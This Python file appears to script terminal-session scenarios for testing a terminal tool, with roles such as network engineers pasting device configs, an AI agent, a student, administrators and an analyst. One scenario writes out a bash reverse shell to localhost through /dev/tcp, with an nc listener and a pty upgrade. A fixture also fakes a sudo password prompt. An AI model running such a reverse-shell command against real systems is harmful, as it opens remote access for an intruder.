"""Days by trade: a network engineer who pastes, an agent, a tester of holes, a student, an administrator, an analyst, a developer of boards."""
from props import prop
from props.gills import ROBBY, SUGG
from props.strothers import AVIT_RC, CONDA, GITPROMPT_RC, P9K, P9K_TWO_RC, RULE_RC, SHRINK_RC, UBUNTU, alone, ash, bash, dash, ksh, mksh, sampled, tcsh, zsh

CROOK = {"con": prop("crooks.py")}
SHOP = {"bin/systemctl": "#!/bin/sh\necho \"$2: active (running) since Mon 2026-11-23\"\n", "bin/apt": "#!/bin/sh\necho 'The following NEW packages will be installed:'; echo '  '$2; printf 'Do you want to continue? [Y/n] '; read a; case $a in n*) echo Abort.;; *) for n in 20 60 100; do printf '\\rProgress: [%3d%%]' $n; sleep 0.2; done; echo; echo \"Setting up $2 ...\";; esac\n",
        "bin/starred": "#!/usr/bin/python3\nimport os, termios, tty\nm = termios.tcgetattr(0)\ntty.setcbreak(0)\nos.write(1, b'[sudo] password for pia: ')\nn = 0\nwhile (c := os.read(0, 1)) not in (b'\\r', b'\\n'):\n    n += 1\n    os.write(1, b'*')\ntermios.tcsetattr(0, termios.TCSANOW, m)\nos.write(1, b'\\n%d letters\\n' % n)\n",
        "bin/journal": "#!/bin/sh\nexec less -X syslog\n", "bin/logs": "#!/bin/sh\nfor n in 1 2 3 4 5 6 7 8; do echo \"ledger-1  | $n GET /invoice/100$n 200\"; sleep 0.25; done\n"}


def pasted(g, *rows):
    """Rows that a terminal pastes at a program that knows no brackets: each is one line."""
    g.s.burst("".join(row + "\r" for row in rows))
    for row in rows:
        g.s.truth(row.strip(), "repl", ahead=True)
    g.s.pause(0.8)
    g.calm()


@bash((100, 30), UBUNTU, files=CROOK)
def a01_a_switch_is_set_up_by_paste(g):
    g.do("ls deploy", "cat deploy/blue.yml")
    g.open("python3 con nxos", None, 0.7)
    g.repl("show vlan")
    pasted(g, "configure terminal", "interface Vlan44", " ip address 10.44.1.1/24", " no shutdown", "end")
    g.repl("show all«Enter w0.4» «w0.3»q«w0.3» ⇒[] show all", "copy running-config startup-config«Enter w0.9» ⇒[] copy running-config startup-config", "exit")
    g.do("echo done with leaf-3")
    g.end()


@zsh((92, 28), "x", AVIT_RC, files=CROOK)
def a02_a_router_and_a_firewall_in_turn(g):
    g.open("python3 con ros7", None, 0.7)
    g.repl("/ip")
    pasted(g, "address print", "add address=10.44.7.1/24 interface=ether7")
    g.repl("export«Enter w0.4»q«w0.3» ⇒[] export", "/quit")
    g.do("print next")
    g.open("python3 con pan", None, 0.7)
    g.repl("configure")
    pasted(g, "set deviceconfig system hostname pa-7", "set zone dmz network layer3 ethernet1/7", "show jobs")
    g.repl("commit«Enter w0.9» ⇒[] commit", "exit", "quit")
    g.do("print end")
    g.end()


@sampled((88, 26), "arrow", files=CROOK)
def a03_edges_from_a_fish(g):
    g.open("python3 con vyos", None, 0.8)
    g.repl("configure")
    pasted(g, "set interfaces ethernet eth1 address 10.44.2.1/24", "set service ssh port 2222", "compare")
    g.repl("commit«Enter w0.9» ⇒[] commit", "exit", "show interfaces", "exit")
    g.do("echo end«w0.2»")
    g.end()


# an agent
@bash((120, 40), "(agent) $ ", "bind 'set enable-bracketed-paste off' 2>/dev/null\nPROMPT_COMMAND=\n")
def a10_an_agent_at_work(g):
    g.wire("cd app && ls -la 2>&1 | tail -n +2; cd ..", "grep -rn 'def ' app --include='*.py' | head -20", "python3 -c \"import json,sys; print(json.dumps({'ok': True, 'n': 6 * 7}))\"", "find . -maxdepth 2 -name '*.yml' -exec grep -Hn image {} +", "sed -n '1,5p' app/main.py | cat -A | head -3", "test -f app/main.py && echo EXISTS || echo MISSING", "for f in deploy/*.yml; do echo \"--- $f\"; cat \"$f\"; done; echo \"exit=$?\"", "echo " + "a very long line that an agent makes " * 12 + "end", "timeout 1 cat; echo $?", "export LEDGER_ENV=test; env | grep LEDGER", "git init -q . && git add -A app && git -c user.name=a -c user.email=a@x commit -qm 'agent: first' && git log --oneline | cat")
    g.end()


@bash((80, 24), "$ ", "PS2='> '\nbind 'set enable-bracketed-paste off' 2>/dev/null\n")
def a11_an_agent_with_documents(g):
    g.wire("pwd")
    for text in ("cat > app/util.py <<'EOF'\ndef add(a, b):\n    return a + b\n\n\nprint(add(40, 2))\nEOF", "python3 - <<'PY'\nimport sys\nfor n in range(2):\n    print(n)\nPY", "while read -r a; do\necho \"$a\"\ndone <<< 'one'"):
        g.s.burst(text.replace("\n", "\r") + "\r")
        g.s.truth(text)
        g.s.pause(0.7)
        g.calm()
        g.wire("echo $?")
    g.wire("python3 app/util.py", "echo __END__:$?")
    g.end()


@bash((160, 48), "\\[\\e]0;agent\\a\\]__P__${?}__ ", "", TERM="xterm")
def a12_an_agent_whose_prompt_is_a_mark(g):
    g.wire("ls deploy", "false", "wc -l syslog", "ls /nope")
    g.ahead("sleep 0.7", "echo queued one", "echo queued two", after=1.6)
    g.do("«paste:for n in 1 2; do⏎  echo $n⏎done» ⇒ for n in 1 2; do⏎  echo $n⏎done", "yes | head -n 40 | sort | uniq -c", "cat app/main.py", "python3 -q«Enter w0.6» ⇒[] python3 -q")
    g.wire("6 * 7", "print('from an agent')", "exit()", kind="repl")
    g.s.pause(0.4)
    g.calm()
    g.wire("echo end")
    g.end()


# who looks for holes
@bash((104, 30), "\\[\\e[32m\\]┌──(\\[\\e[34m\\]kali㉿ws\\[\\e[32m\\])-[\\w]\\n└─\\[\\e[34m\\]$\\[\\e[0m\\] ", needs=["nc", "python3"])
def a20_a_shell_that_comes_back(g):
    g.do("(sleep 5; exec setsid bash -c 'PS1=\"victim$ \" exec bash --norc -i >& /dev/tcp/127.0.0.1/8473 0>&1') &")
    g.open("nc -lvnp 8473", "received", 0.9)
    g.do("id -un", "hostname", "ls deploy")
    g.open("python3 -c 'import pty; pty.spawn([\"bash\", \"--norc\"])'", None, 0.9)
    g.do("echo now with a pty", "pwd")
    g.s.key("C-z", pace=0.6)
    g.calm()
    g.open("stty raw -echo; fg", None, 0.6)
    g.s.key("Enter", pace=0.4)
    g.calm()
    g.do("export TERM=xterm", "echo all keys work", "echo wrogn«BSpace*2»ng ⇒ echo wrong", "«Up w0.3 Up w0.3» ⇒ echo all keys work", "exit")
    g.do("exit")
    g.s.pause(0.6)
    g.calm()
    g.s.key("C-c", pace=0.4)
    g.calm()
    g.s.burst("stty sane\r")
    g.s.truth("stty sane", "unknown")
    g.s.pause(0.5)
    g.calm()
    g.do("echo home again")
    g.end()


# a student
@zsh((80, 24), ROBBY, "bindkey -e\nautoload -Uz compinit && compinit -u -D\n", files=SHOP)
def a30_a_student_learns(g):
    g.do("sl", "ls", "cd depoly", "cd deploy", "ls -l", "cat blue.yml", "cd ..", "man ls«Enter w1.2»q«w0.5» ⇒[] man ls", "clear", "pyhton3«C-a C-f C-f C-d C-f»t«C-e»«w0.1»«C-u»python3 --version ⇒ python3 --version", "echo helo«BSpace»lo ⇒ echo hello", "nano n.txt«Enter w0.8»hello«C-o w0.4 Enter w0.4 C-x w0.5» ⇒[] nano n.txt", "cat n.txt", "«Up w0.2 Up w0.2 Up w0.3»«C-c w0.4»…", "mkdir work && cd work", "touch a b c; ls", "rm -i a«Enter w0.4»y«Enter w0.4» ⇒[] rm -i a", "cd ~", "echo end")
    g.end()


@bash((90, 26), CONDA, files=SHOP)
def a31_an_administrator_of_debian(g):
    g.do("systemctl status ledger", "apt install jq«Enter w0.6»y«Enter w1.2» ⇒[] apt install jq", "journal«Enter w0.6»/sshd«Enter w0.4»q«w0.4» ⇒[] journal")
    g.open("starred", "pia:", 0.5)
    g.word("Teasel-Weir-71")
    g.do("echo in", "logs«Enter w2.4» ⇒[] logs", "logs | grep -c 200«Enter w2.4» ⇒[] logs | grep -c 200", "tail -f syslog«Enter w0.8»«C-c w0.5» ⇒[] tail -f syslog", "cat <<'E' | tee new.conf⏎[ledger]⏎port = 8080⏎E", "EDITOR='vim -u NONE -N' crontab -l 2>/dev/null | wc -l", "sh gauge", "df -h / | awk 'NR == 2 { print $5 }'", "«C-r w0.3»grep«w0.5»«C-e» | cat ⇒ logs | grep -c 200 | cat", "«w2.0»…", "echo end")
    g.end()


@tcsh((84, 24), "[%n@%m %c]%# ", "bindkey -e\nset autolist\n", files=SHOP)
def a32_an_administrator_of_bsd(g):
    g.do("uname -s", "apt install jq«Enter w0.6»n«Enter w0.5» ⇒[] apt install jq", "setenv PAGER cat", "foreach f (deploy/*.yml)⏎wc -l $f⏎end", "alias ll 'ls -l'", "ll app", "cat deploy/b«Tab w0.4» ⇒ cat deploy/blue.yml ∥ cat deploy/blue.yml ", "sh gauge", "echo $status", "history 3", "!ll ⇒ !ll ∥ ll app", "echo end")
    g.end()


@alone(["/usr/bin/ipython3", "--no-banner", "--no-confirm-exit"], (110, 34), needs=["/usr/bin/ipython3"], IPYTHONDIR="@HOME@/.ip", PAGER="cat")
def a33_an_analyst_in_ipython(g):
    g.calm(2.2)
    g.repl("import csv, statistics", "rows = list(csv.DictReader(open('invoices.csv')))", "len(rows)", "rows[0]['client']", "total = sum(float(r['sum']) for r in rows)", "total > 0", "%time sum(range(1000))", "«paste:def late(r):⏎    return r['paid'] == 'no'⏎»«w0.5» ⇒ def late(r):⏎    return r['paid'] == 'no'", "len([r for r in rows if late(r)])", "%whos", "!head -n 1 invoices.csv", "statistics.mean(float(r['sum']) for r in rows) > 1", "«Up w0.4 Up w0.4»«w0.2»«C-c w0.4»…", "total.is_«Tab w0.9»() ⇒ total.is_integer()", "_ is False")
    g.end("exit", "repl")


@bash((96, 30), "x", GITPROMPT_RC, files=CROOK)
def a34_a_developer_and_pasted_blocks(g):
    g.open("python3 -q", ">>>", 0.6)
    g.repl("«paste:x = 6 * 7» ⇒ x = 6 * 7", "x", "def f(a):⏎    if a:⏎        return 1⏎    return 2⏎ ⇒ def f(a):⏎    if a:⏎        return 1⏎    return 2", "f(0)", "exit()")
    g.open("node", "> ", 0.9)
    g.repl("«paste:const y = 6 * 7» ⇒ const y = 6 * 7", "function f(a) {⏎if (a) {⏎return 1⏎}⏎return 2⏎} ⇒ function f(a) {⏎if (a) {⏎return 1⏎}⏎return 2⏎} ∥ function f(a) {⏎  if (a) {⏎    return 1⏎  }⏎  return 2⏎} ∥ function f(a) {⏎  if (a) {⏎    return 1⏎    }⏎  return 2⏎  }", "f(0)", ".exit")
    g.do("make -f - <<'M'⏎all:; @echo made⏎M", "git stash list | cat", "«paste:for n in 1 2⏎do⏎  echo $n⏎done⏎» ⇒ for n in 1 2⏎do⏎  echo $n⏎done", "echo end")
    g.end()


@ksh((80, 24), "board:${PWD##*/}$ ", "set -o emacs\n", needs=["socat", "busybox"])
def a35_a_board_on_a_serial_line(g):
    g.do("socat pty,link=tty1,raw,echo=0 exec:'env PS1=board# busybox ash',pty,stderr,setsid,sane &", "ls tty1")
    g.open("socat -,raw,echo=0,escape=0x1d ./tty1", None, 0.6)
    g.s.key("Enter", pace=0.4)
    g.calm()
    g.do("uname -s", "echo on the board", "echo wrogn«BSpace*2»ng ⇒ echo wrong", "«Up w0.3 Up w0.3» ⇒ echo on the board", "cat <<E⏎row⏎E")
    g.s.key("C-]", pace=0.5)
    g.calm()
    g.do("print off the board", "kill %1", "print end")
    g.end()


# two or three rows of the catalogue in one line
@zsh((41, 20), "x", SHRINK_RC + SUGG)
def a40_search_ghost_and_pull(g):
    g.do("ls app", "print one needle in a stack of hay and straw", "print other", "«C-r w0.3»needle«w0.4»«size 58x20»«w0.4» ⇒ print one needle in a stack of hay and straw", "print on«w0.5»«size 37x20»«w0.4 Right w0.4» ⇒ print one needle in a stack of hay and straw", "print a b c«C-a C-f C-f C-f C-f C-f C-f»x«size 60x22»«C-e»y ⇒ print xa b cy", "false", "print end")
    g.end()


@bash((52, 16), "x", RULE_RC)
def a41_talk_search_and_clear(g):
    g.do("ls app", "echo a needle in it", "sh beat &", "«C-r w0.3»need«w1.0»«w0.8» ⇒ echo a needle in it", "«w0.3»…", "echo half of a line which goes over the margin «C-l w0.3»and half ⇒ echo half of a line which goes over the margin and half", "sh beat & «w0.1»", "echo never mind«w1.4»«C-c w0.4» ✗", "«w0.6»…", "echo end")
    g.end()


@sampled((60, 18), "nim")
def a42_ghosts_pagers_and_jobs(g):
    g.do("ls deploy", "echo deploy the green one", "sh beat &", "echo dep«w1.2 Right w0.8» ⇒ echo deploy the green one", "«w0.6»…", "cat app/«Tab w0.7 Tab w0.4 Escape w0.4»«C-u w0.2»echo gave up ⇒ echo gave up", "echo dep«w0.5»«size 75x18»«w0.5» ⇒ echo dep", "echo 'two⏎rows'«C-a w0.2»«w0.1» ⇒ echo 'two⏎rows'", "false", "echo end")
    g.end()


@bash((70, 20), "\\[\\e[42;30m\\] \\W \\[\\e[0;32m\\]\ue0b0\\[\\e[0m\\] ", "PS2='\\[\\e[2m\\]…\\[\\e[0m\\] '\nset -o vi\n")
def a43_vi_blocks_and_searches(g):
    g.do("ls app", "for n in 1 2⏎do echo $n⏎done", "echo one needle«Escape w0.3»0wDaall«w0.1» ⇒ echo all", "«Escape w0.3»/for«Enter w0.3»«w0.2» ⇒ for n in 1 2; do echo $n; done ∥ for n in 1 2\ndo echo $n\ndone", "echo x«Escape w0.3»~«w0.1» ⇒ echo X", "cat <<E⏎row⏎E", "echo wide 表示«Escape w0.3»0«w0.1»A é ⇒ echo wide 表示 é", "#kept«w0.1»", "echo end")
    g.end()


@zsh((100, 26), "x", P9K_TWO_RC + "setopt hist_verify correct\n", needs=P9K)
def a44_corrections_below_segments(g):
    g.calm(1)
    g.do("ls deploy", "gerp cron syslog«Enter w0.5»n«w0.5» ⇒[] gerp cron syslog", "print one two", "print !$«Enter w0.4» ⇒ print two", "cat <<A⏎a⏎A", "!cat«Enter w0.4»«C-c w0.4»…", "print \"open⏎closed\"", "sleep 0.3 && print slept", "print end")
    g.end()


@mksh((44, 14), "$(print -n \"${PWD##*/}\"):\n\\$ ".replace("\\", ""), "")
def a45_mir_in_two_rows(g):
    g.do("ls app", "print one", "print a line that slides in a narrow window of the korn shell", "«Up w0.3 Up w0.3»x«w0.1» ⇒ print onex", "for n in 1 2; do⏎print $n⏎done", "cat <<E⏎row⏎E", "print end")
    g.end()


@dash((36, 12), "very-long-host-name:/srv/ledger/app$ ", "")
def a46_a_prompt_longer_than_the_row(g):
    g.do("ls app", "echo one", "echo wrogn«BSpace*2»ng ⇒ echo wrong", "echo a line longer than the row", "cat <<E⏎row⏎E", "never«C-c w0.3» ✗", "echo end")
    g.end()


@bash((36, 12), "very-long-host-name:/srv/ledger/app\\$ ", "")
def a47_a_prompt_longer_than_the_row_in_bash(g):
    g.do("ls app", "echo one", "«Up w0.3» two ⇒ echo one two", "«C-r w0.3»ls«w0.5» ⇒ ls app", "echo a line longer than the row«C-a w0.1»time «w0.1» ⇒ time echo a line longer than the row", "cat app/s«Tab w0.4» ⇒ cat app/setup.cfg ∥ cat app/setup.cfg ", "false", "echo end")
    g.end()
